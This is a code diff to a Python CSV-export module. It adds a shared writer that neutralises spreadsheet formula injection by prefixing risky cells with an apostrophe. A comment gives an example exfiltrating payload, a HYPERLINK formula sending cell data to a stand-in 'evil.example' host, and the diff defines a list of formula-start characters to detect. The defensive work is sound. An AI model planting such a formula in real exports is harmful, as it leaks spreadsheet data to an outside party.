@@ -1,11 +1,14 @@
-"""CSV rows of the views: one row per timeline entry, resource or story.
+"""CSV rows of the views: one row per timeline entry, resource or story, and the one
+writer every CSV goes through (`write_csv`).
 
 They are made from a view already folded for a viewer, so a CSV never shows more than
 the view it comes from (DESIGN: every export a user can reach filters by visibility).
 """
 from __future__ import annotations
 
-from typing import Any
+import csv
+from collections.abc import Iterable, Sequence
+from typing import Any, TextIO
 
 PORTFOLIO_CSV_COLUMNS = ("member_id", "position", "occurred_at", "community_id", "kind",
                          "type", "summary", "visibility", "value_cycle", "corrected")
@@ -29,6 +32,29 @@ def _cell(value: Any) -> Any:
     if isinstance(value, (list, tuple)):
         return "; ".join(str(v) for v in value)
     return value
+
+
+#: A spreadsheet takes a cell that starts with one of these as a formula (OWASP "CSV
+#: injection"): a title such as `=HYPERLINK("http://evil.example/?x="&A1,"x")` would run
+#: when a coordinator opens the file.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert(value: Any) -> Any:
+    """A cell a spreadsheet shows as the text it is: text starting like a formula gets a
+    leading `'` (OWASP); numbers, a negative one included, stay numbers."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def write_csv(handle: TextIO, columns: Sequence[str],
+              rows: Iterable[Sequence[Any]]) -> None:
+    """The header and the rows, every cell made inert: the one writer of `journey
+    export-csv` and the coordinator's downloads, so no CSV can carry a formula."""
+    writer = csv.writer(handle)
+    writer.writerow(columns)
+    writer.writerows([inert(cell) for cell in row] for row in rows)
 
 
 def portfolio_csv_rows(view: dict[str, Any]) -> list[list[Any]]:
